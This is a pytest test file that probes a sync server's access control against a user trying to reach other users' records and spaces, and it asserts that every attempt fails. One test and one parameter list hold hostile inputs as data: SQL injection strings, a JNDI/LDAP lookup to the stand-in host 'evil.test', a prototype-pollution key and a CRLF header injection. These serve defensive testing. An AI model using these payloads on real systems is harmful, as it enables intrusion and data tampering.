"""Somebody with a good token who wants to read or change what is not theirs."""

from uuid import uuid4

import httpx
import pytest
from sync_house import BASE, CLUB, FLAT, insertion, make_app

from mana_lab.sync.server.cursor import encode_cursor

STAMP = "2026-01-05T00:00:00.000Z"
END = encode_cursor(2**63 - 1)
IDS = [f"{number}" for number in range(1000)]


def update(record_id="1", **other):
    fields = {"title": {"value": "mine now", "updatedAt": STAMP}}
    return {"table": "tasks", "id": record_id, "op": "update", "fields": fields} | other


def delete(record_id="1", **other):
    return {"table": "tasks", "id": record_id, "op": "delete", "deletedAt": STAMP} | other


async def view(house, user, space):
    replica = house.replica(space)
    await replica.refresh(house.token(user))
    return [(record.id, record.fields, record.stamps) for record in replica.current()]


@pytest.fixture
async def theirs(house):
    """Return what others have: a thousand records of ben's own, and as many in a club of his."""
    for space in ("_personal:ben", CLUB):
        mine = [insertion(name, spaceId=space) for name in IDS]
        assert (await house.push(*mine, user="ben", since=END)).status_code == 200
    return [(space, await view(house, "ben", space)) for space in ("_personal:ben", CLUB)]


@pytest.fixture
async def somewhat(house):
    """Have ben own a record, and one in his club."""
    await house.push(insertion(), insertion(spaceId=CLUB), user="ben")


async def test_a_thousand_ids_of_others_in_one_push_change_nothing_of_theirs(house, theirs):
    """Without a space, the changes are to records of one's own that happen to be called so."""
    for attack in (update, delete, insertion):
        answer = await house.push(*(attack(name) for name in IDS), since=END)
        assert (answer.status_code, answer.json()["serverChanges"]) == (200, [])
    for space, before in theirs:
        assert len(before) == 1000
        assert await view(house, "ben", space) == before
    assert {row.space_id for row in house.rows() if row.user_id == "anna"} == {"_personal:anna"}


@pytest.mark.parametrize("attack", [update, delete, insertion], ids=lambda attack: attack.__name__)
async def test_one_foreign_space_among_a_thousand_changes_stores_none(house, theirs, attack):
    for space, before in theirs:
        mine = [attack(name, spaceId=FLAT) for name in IDS[:-1]]
        answer = await house.push(*mine, attack(IDS[-1], spaceId=space))
        assert (answer.status_code, answer.json()["error"]) == (403, "not-a-member")
        assert await view(house, "ben", space) == before
    assert await house.pull_ids("anna") == []


async def test_a_thousand_foreign_spaces_in_one_push_are_asked_about_together(house):
    asked = []

    class Counting:
        async def spaces_of(self, user_id, _session_id):
            asked.append(user_id)
            return frozenset()

        fresh_spaces_of = spaces_that_stay = spaces_of

    house.members.spaces["anna"] = set()
    app = make_app(house.store, house.clock, house.key, Counting())
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url=BASE) as http:
        house.http = http
        answer = await house.push(*(insertion(name, spaceId=f"org-{name}") for name in IDS))
    assert answer.status_code == 403
    assert asked == ["anna", "anna"]
    assert len(answer.content) < 300


@pytest.mark.usefixtures("somewhat")
@pytest.mark.parametrize(
    "space",
    [
        "ORG-CLUB",
        "org-club ",
        " org-club",
        "org-clu\u200bb",
        "org-club\u0000",
        "org-flat\norg-club",
        "org-flat,org-club",
        "org-%",
        "org-____",
        "\u043erg-club",
        "\uff4frg-club",
        "_personal:BEN",
        "_PERSONAL:ben",
        "' OR '1'='1",
    ],
)
async def test_a_space_that_only_looks_like_another_opens_nothing(house, space):
    for answer in (await house.push(insertion(spaceId=space)), await house.pull(spaceId=space)):
        assert answer.status_code in {400, 403}
    assert all(row.user_id == "ben" for row in house.rows())


@pytest.mark.parametrize(
    "body",
    [
        '{"clientId":"x","changes":[{"table":"tasks","id":"1","op":"delete",%s}]}',
        '{"clientId":"x","changes":[{"table":"tasks","id":"1","op":"insert","data":{%s}}]}',
    ],
    ids=["in the change", "in the record"],
)
@pytest.mark.parametrize(
    "named",
    [
        '"spaceId":"org-flat","spaceId":"org-club"',
        '"space_id":"org-club"',
        '"spaceId":"org-flat","space_id":"org-club"',
        '"space_id":"org-flat","spaceId":"org-club"',
        '"spaceId":null,"space_id":"org-club"',
        '"spaceid":"org-club","SpaceId":"org-club"',
        '"\\u0073paceId":"org-club"',
    ],
)
async def test_a_space_named_twice_or_otherwise_reaches_no_other_space(house, body, named):
    answer = await house.push_raw(body % named)
    assert answer.status_code in {200, 403}
    assert {row.space_id for row in house.rows()} <= {FLAT, "_personal:anna"}
    assert await house.pull_ids("cleo", spaceId=CLUB) == []


@pytest.mark.usefixtures("somewhat")
@pytest.mark.parametrize("query", [[FLAT, CLUB], [CLUB, FLAT], [CLUB, ""], ["_personal:ben", FLAT]])
async def test_a_query_that_names_two_spaces_reads_nothing_foreign(house, query):
    answer = await house.http.get(
        "/sync/todo/pull",
        params=[("collection", "tasks"), *(("spaceId", space) for space in query)],
        headers=house.bearer(),
    )
    assert answer.status_code in {200, 400, 403}
    assert answer.json().get("serverChanges", []) == []


async def test_what_a_change_says_of_itself_gives_it_no_other_owner(house):
    claims = {
        "userId": "ben",
        "user_id": "ben",
        "clientId": "bens",
        "client_id": "bens",
        "seq": 10**6,
        "actor": {"userId": "ben", "kind": "user"},
        "origin": "system",
        "createdAt": "1970-01-01T00:00:00Z",
    }
    await house.push(insertion(**claims), **claims)
    (row,) = house.rows()
    assert (row.user_id, row.client_id, row.space_id) == ("anna", "bens", "_personal:anna")
    assert row.seq == 1
    assert row.created_at == house.clock.now()


@pytest.mark.usefixtures("theirs")
async def test_the_event_ids_of_others_tell_nothing_and_stop_nothing(house):
    """Somebody who guesses ids learns neither that they are used, nor takes them away."""
    guessed = [row.id for row in house.rows()][:1000]
    answer = await house.push(*(insertion("9", eventId=event) for event in guessed), since=END)
    assert (answer.status_code, answer.json()["serverChanges"]) == (200, [])
    assert sum(row.user_id == "anna" for row in house.rows()) == 1000
    again = [insertion(name, spaceId=CLUB, eventId=str(uuid4())) for name in IDS]
    for _ in range(2):
        assert (await house.push(*again, user="cleo", since=END)).status_code == 200
    assert sum(row.user_id == "cleo" for row in house.rows()) == 1000


@pytest.mark.usefixtures("theirs")
async def test_the_cursor_of_another_reads_nothing_of_theirs(house):
    cursor = (await house.pull("ben", limit=1)).json()["syncedUntil"]
    for since in (cursor, END, "", "1970-01-01T00:00:00Z"):
        assert await house.pull_ids("anna", since=since) == []
        assert (await house.push(since=since)).json()["serverChanges"] == []


async def test_values_that_are_code_elsewhere_are_values_here(house):
    strange = {
        "__proto__": {"admin": True},
        "'; DROP TABLE sync_changes; --": "' OR 1=1; --",
        "{{7*7}}": "${jndi:ldap://evil.test}",
        "<script>": "</script>",
        "\0": "\0",
        "\r\n": "\r\nX-Evil: 1",
    }
    actor = {"kind": "\0", "__proto__": None}
    answer = await house.push(insertion(data=strange, actor=actor))
    (change,) = answer.json()["serverChanges"]
    assert (change["data"], change["actor"]) == (strange, actor)
